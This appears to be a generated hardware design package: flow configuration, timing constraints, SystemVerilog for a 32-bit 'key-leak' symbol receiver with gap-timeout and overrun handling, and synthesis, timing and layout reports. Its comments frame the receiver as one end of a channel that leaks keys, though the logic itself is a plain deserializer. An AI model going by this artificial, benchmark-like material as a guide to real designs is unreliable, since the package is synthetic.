File: config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = leak_rx_32
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/leak_pkg.sv /design/src/rtl/leak_gap_timer.sv /design/src/rtl/leak_rx_32.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 15
export CORE_UTILIZATION = 55
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_TIMING_DRIVEN = 1
export PLACE_DENSITY = 0.93
export REMOVE_ABC_BUFFERS = 1
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_HIERARCHICAL = 1
export SYNTH_SLANG_ARGS = --single-unit
File: constraint.sdc
create_clock -name clk -period 3.1 [get_ports clk]
set_input_delay 0.465 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.465 -clock clk [all_outputs]
set_load 0.005 [all_outputs]
File: src/rtl/leak_pkg.sv
`default_nettype none
// ============================================================================
//  Module      : leak_pkg
//  Description : Shared types and constants for the 48/32 key-leak receiver
//                and its transmitter-side bench. Holds the receiver state
//                encoding, the default slice/symbol geometry and the 2-bit
//                leaked-symbol type.
//  Ports       : none (package)
//  Revision    : 1.0 - initial release
// ============================================================================
package leak_pkg;

  // Default geometry: 8-bit slices, 2-bit symbols, 16 symbols per word.
  localparam int LEAK_BITLEAK = 8;
  localparam int LEAK_SYM_W   = 2;
  localparam int LEAK_GAP_MAX = 7;

  localparam int NSYM      = 4 * LEAK_BITLEAK / LEAK_SYM_W;
  // One spare bit so the symbol index never wraps inside a frame.
  localparam int SYM_IDX_W = $clog2(NSYM) + 1;

  typedef logic [LEAK_SYM_W-1:0] sym_t;

  typedef enum logic [1:0] {
    ST_IDLE    = 2'd0,
    ST_COLLECT = 2'd1,
    ST_HOLD    = 2'd2
  } state_t;

endpackage : leak_pkg
`default_nettype wire

File: src/rtl/leak_gap_timer.sv
`default_nettype none
// ============================================================================
//  Module      : leak_gap_timer
//  Description : Idle-gap counter used inside a receive burst. Counts enabled
//                idle cycles and flags the cycle whose increment would reach
//                GAP_MAX, so the caller can abort on that same edge.
//  Ports       : clk   - clock
//                rst   - synchronous active-high reset
//                clr_i - clear counter (priority over inc_i)
//                inc_i - count one idle cycle
//                tc_o  - terminal count: this increment reaches GAP_MAX
//  Revision    : 1.0 - initial release
// ============================================================================
module leak_gap_timer #(
  parameter int GAP_MAX = 7
) (
  input  logic clk,
  input  logic rst,
  input  logic clr_i,
  input  logic inc_i,
  output logic tc_o
);

  localparam int CW = $clog2(GAP_MAX + 1);
  localparam logic [CW-1:0] C_LAST = CW'(GAP_MAX - 1);

  logic [CW-1:0] cnt_q;
  logic [CW-1:0] cnt_d;

  // Flag is combinational so the abort lands on the GAP_MAX-th idle edge.
  assign tc_o = inc_i && (cnt_q == C_LAST);

  always_comb begin
    cnt_d = cnt_q;
    if (clr_i) begin
      cnt_d = '0;
    end else if (inc_i && !tc_o) begin
      cnt_d = cnt_q + CW'(1);
    end else if (tc_o) begin
      cnt_d = '0;
    end
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      cnt_q <= '0;
    end else begin
      cnt_q <= cnt_d;
    end
  end

endmodule : leak_gap_timer
`default_nettype wire

File: src/rtl/leak_rx_32.sv
`default_nettype none
// ============================================================================
//  Module      : leak_rx_32
//  Description : Receiver for the key-leak symbol stream. Reassembles each
//                NSYM-symbol burst (LSB-first) into a 4*BITLEAK-bit word and
//                presents it on a valid/ready output with a wrap-around
//                accept counter, a gap-timeout framing pulse and a sticky
//                overrun flag.
//  Ports       : clk        - sole clock
//                rst_all    - synchronous active-high reset
//                sym_valid  - symbol strobe
//                sym        - leaked symbol
//                word       - reassembled word (stable while word_valid)
//                word_valid - word available
//                word_ready - consumer accept
//                word_cnt   - accepted words, mod 8
//                frame_err  - one-cycle pulse on gap-timeout abort
//                overrun    - sticky: symbol arrived while a word was held
//  Revision    : 1.0 - initial release
// ============================================================================
module leak_rx_32
  import leak_pkg::*;
#(
  parameter int BITLEAK = LEAK_BITLEAK,
  parameter int SYM_W   = LEAK_SYM_W,
  parameter int GAP_MAX = LEAK_GAP_MAX
) (
  input  logic                   clk,
  input  logic                   rst_all,
  input  logic                   sym_valid,
  input  logic [SYM_W-1:0]       sym,
  output logic [4*BITLEAK-1:0]   word,
  output logic                   word_valid,
  input  logic                   word_ready,
  output logic [2:0]             word_cnt,
  output logic                   frame_err,
  output logic                   overrun
);

  localparam int W      = 4 * BITLEAK;
  localparam int NSYM_L = W / SYM_W;
  localparam int IDX_W  = $clog2(NSYM_L) + 1;
  localparam logic [IDX_W-1:0] C_LAST_IDX = IDX_W'(NSYM_L - 1);

  state_t           state_q;
  logic [W-1:0]     shift_q;
  logic [W-1:0]     shift_d;
  logic [W-1:0]     load_d;
  logic [IDX_W-1:0] sym_idx_q;
  logic [W-1:0]     word_q;
  logic             word_valid_q;
  logic [2:0]       word_cnt_q;
  logic             frame_err_q;
  logic             overrun_q;

  logic             gap_clr;
  logic             gap_inc;
  logic             gap_tc;

  // New symbols enter at the top so the first one ends up in bits [SYM_W-1:0].
  assign shift_d = {sym, shift_q[W-1:SYM_W]};
  // First symbol of a frame: previous frame contents are discarded.
  assign load_d  = {sym, {(W-SYM_W){1'b0}}};

  // Idle cycles only count while collecting; any symbol or other state clears.
  assign gap_inc = (state_q == ST_COLLECT) && !sym_valid;
  assign gap_clr = (state_q != ST_COLLECT) || sym_valid;

  leak_gap_timer #(
    .GAP_MAX (GAP_MAX)
  ) u_gap_timer (
    .clk   (clk),
    .rst   (rst_all),
    .clr_i (gap_clr),
    .inc_i (gap_inc),
    .tc_o  (gap_tc)
  );

  always_ff @(posedge clk) begin
    if (rst_all) begin
      state_q      <= ST_IDLE;
      shift_q      <= '0;
      sym_idx_q    <= '0;
      word_q       <= '0;
      word_valid_q <= 1'b0;
      word_cnt_q   <= 3'd0;
      frame_err_q  <= 1'b0;
      overrun_q    <= 1'b0;
    end else begin
      frame_err_q <= 1'b0;
      case (state_q)
        ST_IDLE: begin
          if (sym_valid) begin
            shift_q   <= load_d;
            sym_idx_q <= IDX_W'(1);
            state_q   <= ST_COLLECT;
          end
        end

        ST_COLLECT: begin
          if (sym_valid) begin
            shift_q <= shift_d;
            if (sym_idx_q == C_LAST_IDX) begin
              word_q       <= shift_d;
              word_valid_q <= 1'b1;
              sym_idx_q    <= '0;
              state_q      <= ST_HOLD;
            end else begin
              sym_idx_q <= sym_idx_q + IDX_W'(1);
            end
          end else if (gap_tc) begin
            frame_err_q <= 1'b1;
            shift_q     <= '0;
            sym_idx_q   <= '0;
            state_q     <= ST_IDLE;
          end
        end

        ST_HOLD: begin
          if (word_ready) begin
            word_valid_q <= 1'b0;
            word_cnt_q   <= word_cnt_q + 3'd1;
            if (sym_valid) begin
              // Accept and new-frame start coincide; overrun is not touched.
              shift_q   <= load_d;
              sym_idx_q <= IDX_W'(1);
              state_q   <= ST_COLLECT;
            end else begin
              state_q <= ST_IDLE;
            end
          end else if (sym_valid) begin
            overrun_q <= 1'b1;
          end
        end

        default: begin
          state_q      <= ST_IDLE;
          word_valid_q <= 1'b0;
          sym_idx_q    <= '0;
        end
      endcase
    end
  end

  assign word       = word_q;
  assign word_valid = word_valid_q;
  assign word_cnt   = word_cnt_q;
  assign frame_err  = frame_err_q;
  assign overrun    = overrun_q;

endmodule : leak_rx_32
`default_nettype wire

[After elaboration in Yosys (flattened, before gate mapping)]
Cells that the tools add are included.
Cells by class
  add/sub/neg operators: 3
  eq/ne operators: 11
  mux-type cells: 25
  bitwise operators: 3
  reductions and logical operators: 18
Operators with widths (number)
  $mux W32: 4
  $pmux W32 S3: 1
  $mux W5: 5
  $pmux W5 S3: 1
  $mux W2: 5
  $reduce_and A3 Y1: 3
  $reduce_and A4 Y1: 2
  $add A3 B1 Y3 const B: 2
  $mux W3: 2
  $ne A2 B2 Y1 const B: 3
  $ne A3 B2 Y1 const B: 2
  $pmux W2 S3: 1
  $add A5 B1 Y5 const B: 1
  $eq A5 B4 Y1 const B: 1
  $mux W1: 5
  $ne A2 B1 Y1 const B: 2
  $reduce_and A2 Y1: 2
  $eq A3 B3 Y1 const B: 1
  $logic_and A1 B1 Y1: 3
  $not A1 Y1: 3
  $pmux W1 S3: 1
  $reduce_bool A3 Y1: 1
  $reduce_or A3 Y1: 1
  $eq A2 B1 Y1 const B: 1
  other kinds (6): 7
Storage, ports and cells
  flip-flop bits (word level): 80
  input port bits: 6
  output and inout bits: 38
  word-level logic and storage cells: 69

[Longest topological paths before layout]
  depth after elaboration: 6
  mapped depth: 12
  mapped depth without buffers: 12

[Modules after synthesis]
Netlist, hierarchy kept.
Modules (own cells, without submodules)
  leak_rx_32: instances 1, cells an instance 363, area each 2841.5 um^2, seq. area each 1501.4 um^2
  leak_gap_timer: instances 1, cells an instance 27, area each 172.7 um^2, seq. area each 60.1 um^2

[Least setup slack after synthesis]
Ideal clock, no wire load.
  path type: input to register
  from: input sym_valid
  to: register shift_q[30]
  library setup time: 0.116 ns
  data arrival time: 1.795 ns
  slack: 1.190 ns
  cell stages on the path: 10
  path buffers: 2
  path through: buf_2 nor2_1 nand3_1 inv_1 nor2_1 nand2_1 nand4_2 buf_6 nor2_1 nor2_1
On the way
  cells in the longest elaborated chain, start to end: 5
  elaborated cells between the ends (all ways): 9
RTL lines
  start, declared: line leak_rx_32.sv:30  | input logic sym_valid,
  $logic_not A1 Y1: line leak_rx_32.sv:66  | assign gap_inc = (state_q == ST_COLLECT) && !sym_valid;
  $logic_and A1 B1 Y1: line leak_rx_32.sv:66
  via gap_inc: line leak_rx_32.sv:57  | logic gap_inc;
  $logic_and A1 B1 Y1: line leak_gap_timer.sv:31  | assign tc_o = inc_i && (cnt_q == C_LAST);
  via gap_tc: line leak_rx_32.sv:58  | logic gap_tc;
  $ne A3 B2 Y1 (no source line)
  $reduce_and A3 Y1 (no source line)
  end signal, assigned: line leak_rx_32.sv:94  | shift_q <= load_d;
  end signal, assigned: line leak_rx_32.sv:102  | shift_q <= shift_d;
  end signal, assigned: line leak_rx_32.sv:125  | shift_q <= load_d;
  end, declared: line leak_rx_32.sv:46  | logic [W-1:0] shift_q;
The timed path passes the listed nets, and every way through them passes these cells. The select of a mux whose other input is x is not followed.
A chain may end at the register's enable or synchronous reset.

[Worst setup path after layout]
  from: input sym_valid
  to: register shift_q[12]
Same word-level chain as after synthesis.

==> impl_results.md <==
* Post-route ant nets at 0
* H-Tree Depth at 3
* Buf/Inv on CP at 4
* Status: finished clean
* First-pass GRT wire length at 10.0 mm
* Crit Path Max Fanout at 30
* Final WL at 5.64 mm
* Pwr dens at 532 mW/mm^2
* Post-synth EDFFs at 0
* Cell accounting for the most synthesized area: dfxtp_1
* Top-count cell post-synth: nand2_1
* Crit end category: flip-flop
* Num rows at 26
* Avg WL per Cell at 11.2 um
* Routability-driven placement congestion ratio at 0.795
* Startpoint types: primary input
* Post-CTS Setup Inserts at 0
* Synth top area share at 51.8%
* Fill count at 415
* Warnings, synthesis at 6
* Setup CP Type: primary input to flip-flop
* Worst-skew pair later-pin latency at 0.35 ns
* Pre-Repair DR Iteration Count at 4
* Initial Utilization at 57.9%
* Routed vias at 2575
* Most common library cells after synthesis: nand2_1, nor2_1, dfxtp_1
* Prevailing post-synth register cell: dfxtp_1
* Remaining global-route overflow at 0
* Critical Path AT at 2.37 ns
* Pin count of the biggest net entering global routing at 39
* Slew Limit Fails at 0
* Antenna diodes at 0
* Share of layout cells above drive strength 1 at 7.64%
* # setup viols final at 0
* Final TNS setup at 0 ns
* Post-route minimum period at 2.08 ns
* Period utilization at 67.2%
* Worst relative slew slack at 65.4%
* Global Route Usage Sum at 21.6%
* # DRC at 0
* IO buf count at 43
* Num ports at 44
* Die Ht at 76.0 um
* Hold slack at 0.464 ns
* Crit path cell chain: clkdlybuf4s50_1, nor2_1, buf_4, nand3_1, inv_1, nor2_1, nand2_1, nand4_2, buf_4, nand2_1, a21oi_1
* Register area share after synthesis at 51.8%
* Peak supply drop at 0.000348 V
* RSZ-0062 raised after global routing: no
* Max incr delay on CP at 0.66 ns
* Synth unique cells at 24
* Syn Inst Count at 390
* Final WS setup at 1.02 ns
* Clk slew on worst S/H paths at 0.08 ns
* Highest-delay cell along the critical path: clkdlybuf4s50_1
* Initial antenna violation count at 0
* #FFs+latches synth at 78
* Num CTS Buffers at 9
* Pre-CTS setup slack at 0.644 ns
* Max-Cap Viols at 0
* Hold Path Class: flip-flop to flip-flop
* Resize count post-CTS at 0
* Final hold vios at 0
* Slew at the pin closest to its max-slew limit at 0.518 ns
* Fmax at 0.480 GHz
* Dpl hpwl at 3.70 mm
* Synthesized area at 0.00301 sq mm
* Average cell area after synthesis at 7.73 sq um
* FFs w/ async S/R, synth at 0%
* Detailed Route Iter0 Violations at 154
* Vias in the first global route at 2387
* Synth top area cells: dfxtp_1, nand2_1, nor2_1, a21oi_1, o21ai_1
* Vias per cell at 5.13
* Core ar. at 0.00520 sq mm
* Clock buffer depth at 2
* CTS Hold Bufs at 0
* CTS tree: done
* # nets final at 438
* Die ar. at 0.00578 sq mm
* Area grow syn2layout at 21.0%
* Leakage Power at 1.42 nW
* Worst EP required at 3.38 ns
* Sink Count at 78
* Chip width at 76.0 um
* Layout Skew at 0.00730 ns
* Crit path max-delay family: buffers and inverters
* Clk root buf: clkbuf_8
final cells by class:
class / instances / area (sq um) / share of cell area [%]
flip-flops and latches: 78 / 1560 / 42.8
repair buffers: 48 / 468 / 12.8
multi-input cells: 271 / 1230 / 33.8
inverters: 20 / 76.3 / 2.09
clock buffers: 10 / 138 / 3.77
well taps: 70 / 87.6 / 2.40
clock inverters: 5 / 83.8 / 2.30
power breakdown:
part           total [mW]  internal (mW)  switching [mW]
clock network       0.826          0.472           0.354
registers            1.02           1.01         0.00728
logic              0.0990         0.0328          0.0662
total                1.94           1.51           0.428
kinds of logic after synthesis:
| group | Yosys count | synth area share, % |
|---|---|---|
| AND/OR/NAND/NOR | 188 | 25.7 |
| flip-flops | 78 | 51.8 |
| AO/OA/AOI/OAI | 76 | 12.7 |
| buffers and inverters | 41 | 7.26 |
| adder cells (fa/ha/maj) | 4 | 1.66 |
| XOR/XNOR | 3 | 0.872 |
cell usage in the layout, fill, tap and decap left out:
cell | synthesis | final
clkbuf_8 | 0 | 10
xor2_1 | 3 | 3
o21ai_0 | 8 | 8
nand2_1 | 88 | 88
clkinvlp_4 | 0 | 2
nand2_4 | 1 | 1
inv_2 | 2 | 2
nor2_1 | 81 | 81
ha_1 | 4 | 4
nand4_1 | 1 | 1
bufinv_16 | 0 | 2
a31oi_1 | 2 | 2
inv_1 | 17 | 17
a21oi_1 | 38 | 38
clkinv_2 | 1 | 1
nor2_8 | 1 | 1
nand4_2 | 2 | 2
dfxtp_1 | 78 | 78
nand3_1 | 8 | 8
o21ai_1 | 28 | 28
nor2_2 | 2 | 2
or2_2 | 2 | 2
clkdlybuf4s50_1 | 0 | 43
nand2_2 | 2 | 2
buf_4 | 4 | 5
clkinv_4 | 0 | 1
sequential cells by signal, summed over array words and instances (netlist names):
register           cells
overrun                1
word                  32
word_valid             1
word_cnt               3
frame_err              1
sym_idx_q              5
shift_q               30
state_q                2
u_gap_timer/cnt_q      3
metal layers:
metal	track usage [%]	share of wire, %	up-vias
met2	38.4	51	59
met5	0	0	-
met3	7.90	4.4	6
li1	-	-	1320
met4	7.12	0.94	0
met1	23.9	44	1190
worst reg2reg max path, delay by kind of cell (launching register included):
| family | cells | cell delay [ns] |
|---|---|---|
| and+or+nand+nor | 3 | 0.73 |
| AOI/OAI and AO/OA | 1 | 0.27 |
| adders and majority gates | 1 | 0.26 |
| buffers and inverters | 1 | 0.34 |
| DFF | 1 | 0.38 |
worst paths after layout:
kind / from / endpoint / slack [ns] / depth (start not counted)
min: shift_q[2]$_SDFFE_PP0P_ / shift_q[2]$_SDFFE_PP0P_ / 0.46 / 2
max reg2reg: sym_idx_q[0]$_SDFFE_PP0P_ / word[8]$_SDFFE_PP0P_ / 1.03 / 6
min reg2reg: shift_q[2]$_SDFFE_PP0P_ / shift_q[2]$_SDFFE_PP0P_ / 0.46 / 2
max: sym_valid / shift_q[12]$_SDFFE_PP0P_ / 1.02 / 11
per-stage QoR:
step                instances  util [%]  power (mW)  cell area [sq um]
detailed placement        487      65.8        1.14               3430
floorplan                 369         -        1.10               2870
global placement          487      65.8        1.13               3430
CTS                       502      70.1        1.96               3650
global route              502      70.1        2.02               3650
finish                    502      70.1        1.94               3650
Note: power is estimated with default switching activity, not from simulation.
